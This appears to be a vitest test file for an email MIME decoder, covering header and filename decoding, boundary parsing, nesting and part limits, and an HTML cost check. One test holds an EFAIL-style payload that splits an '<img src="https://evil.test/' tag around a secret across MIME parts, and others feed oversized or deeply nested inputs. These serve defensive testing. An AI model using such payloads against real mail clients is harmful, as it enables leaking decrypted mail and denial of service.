import { describe, expect, it } from "vitest";
import { utf8 } from "../src/lib/encoding";
import { tooCostly } from "../src/mail/cost";
import { decodeContent, decodeMail } from "../src/mail/decode";
import { MOST_PARTS, splitBody, structureOf } from "../src/mail/structure";

const mail = (...lines: string[]) => utf8(lines.join("\r\n"));
const view = async (...lines: string[]) => (await decodeMail(mail(...lines))).view;

describe("structure", () => {
  it("reads headers, names, texts and attachments", async () => {
    const { view: got, leaves } = await decodeMail(
      mail(
        "From: =?utf-8?q?Zo=C3=AB?= <zoe@example.org>",
        "To: a@x.test, B <b@x.test>",
        "Subject: =?utf-8?b?R3LDvMOfZQ==?=",
        'Content-Type: multipart/mixed; boundary="b1"',
        "",
        "preamble",
        "--b1",
        'Content-Type: multipart/alternative; boundary="b2"',
        "",
        "--b2",
        "Content-Type: text/plain; charset=iso-8859-1",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        "gr=FC=DFe",
        "--b2",
        "Content-Type: text/html; charset=utf-8",
        "",
        "<p>grüße</p>",
        "--b2--",
        "--b1",
        "Content-Type: application/pdf; name*=utf-8''pl%C3%A4ne.pdf",
        "Content-Disposition: attachment",
        "Content-Transfer-Encoding: base64",
        "",
        "JVBERi0=",
        "--b1--",
        "epilogue",
      ),
    );
    expect(got.from).toEqual([{ name: "Zoë", address: "zoe@example.org" }]);
    expect(got.to.map((one) => one.address)).toEqual(["a@x.test", "b@x.test"]);
    expect(got.subject).toBe("Grüße");
    expect(got.blocks).toHaveLength(1);
    expect(got.blocks[0]?.text?.trim()).toBe("grüße");
    expect(got.blocks[0]?.html?.trim()).toBe("<p>grüße</p>");
    expect(got.parts).toMatchObject([{ index: 0, name: "pläne.pdf", type: "application/pdf" }]);
    expect(new TextDecoder().decode(await decodeContent(leaves[0]!))).toBe("%PDF-");
  });

  it("keeps parts apart: markup opened in one is never completed by the next (EFAIL)", async () => {
    const got = await view(
      "Content-Type: multipart/mixed; boundary=b",
      "",
      "--b",
      "Content-Type: text/html",
      "",
      '<img src="https://evil.test/',
      "--b",
      "Content-Type: text/html",
      "",
      "secret",
      "--b",
      "Content-Type: text/html",
      "",
      '">',
      "--b--",
    );
    expect(got.blocks.map((block) => block.html?.trim())).toEqual(['<img src="https://evil.test/', "secret", '">']);
  });

  it("keeps two HTML parts of one alternative apart as well", async () => {
    const part = (text: string) => ["--b", "Content-Type: text/html", "", text];
    const got = await view(
      "Content-Type: multipart/alternative; boundary=b",
      "",
      ...part("one"),
      ...part("two"),
      "--b--",
    );
    expect(got.blocks.map((block) => block.html?.trim())).toEqual(["one", "two"]);
  });

  it("shows a mail without structure, without headers, or with a multipart that names no boundary", async () => {
    expect((await view("", "just text")).blocks[0]?.text?.trim()).toBe("just text");
    expect((await view("Subject: x", "", "body")).blocks[0]?.text?.trim()).toBe("body");
    expect((await view("Content-Type: multipart/mixed", "", "body")).parts).toHaveLength(1);
    expect((await view("")).blocks).toHaveLength(1);
  });

  it("stops at 50 levels and at 1,000 parts", () => {
    const deep: string[] = [];
    for (let i = 0; i < 200; i++) deep.push(`Content-Type: multipart/mixed; boundary=b${i}`, "", `--b${i}`);
    expect(structureOf(mail(...deep)).truncated).toBe(true);
    const wide = structureOf(
      mail("Content-Type: multipart/mixed; boundary=b", "", ...Array(5000).fill("--b\r\n\r\nx"), "--b--"),
    );
    expect(wide.truncated).toBe(true);
    expect(wide.leaves.length).toBeLessThanOrEqual(MOST_PARTS);
  });

  it("takes 8 MB of boundaries and 2 MB of headers in bounded time", async () => {
    const start = performance.now();
    await decodeMail(mail("Content-Type: multipart/mixed; boundary=b", "", "--b\r\n".repeat(1_600_000)));
    await decodeMail(mail("X: y\r\n".repeat(350_000), "", "body"));
    expect(performance.now() - start).toBeLessThan(5000);
  });

  it("takes a boundary only at the start of a line and only whole", () => {
    const parts = splitBody(
      mail("--b", "one --b", "--bc", "still one", "--b ", "two", "--b--", "--b", "late"),
      "b",
      100,
    );
    expect(parts.map((part) => new TextDecoder().decode(part))).toEqual(["one --b\r\n--bc\r\nstill one", "two"]);
  });

  it("reads names that were sent as bare UTF-8, against the rules", async () => {
    const disposition = 'Content-Disposition: attachment; filename="pläne €.pdf"';
    const got = await view(
      "Content-Type: multipart/mixed; boundary=b",
      "",
      "--b",
      disposition,
      "Content-Type: application/pdf",
      "",
      "x",
      "--b--",
    );
    expect(got.parts.map((part) => part.name)).toEqual(["pläne €.pdf"]);
  });

  it("treats a text with a file name as an attachment, and an attached mail as a file", async () => {
    const got = await view(
      "Content-Type: multipart/mixed; boundary=b",
      "",
      "--b",
      "",
      "body",
      "--b",
      'Content-Type: text/plain; name="notes.txt"',
      "",
      "notes",
      "--b",
      "Content-Type: message/rfc822",
      "",
      "Subject: inner",
      "",
      "inner",
      "--b--",
    );
    expect(got.blocks).toHaveLength(1);
    expect(got.parts.map((part) => [part.name, part.type])).toEqual([
      ["notes.txt", "text/plain"],
      ["", "message/rfc822"],
    ]);
  });
});

describe("cost of HTML", () => {
  it("lets ordinary mail pass and stops what would explode", () => {
    expect(tooCostly("<p>hello <b>you</b></p>".repeat(2000))).toBe(false);
    expect(tooCostly("<b>".repeat(40_000))).toBe(true);
    const fonts = Array.from({ length: 3000 }, (_, i) => `<font color=${i}>`).join("");
    expect(tooCostly(`<p>${fonts}</p>` + "<p>x".repeat(3000))).toBe(true);
    expect(tooCostly("x".repeat(3_000_000))).toBe(true);
  });
});
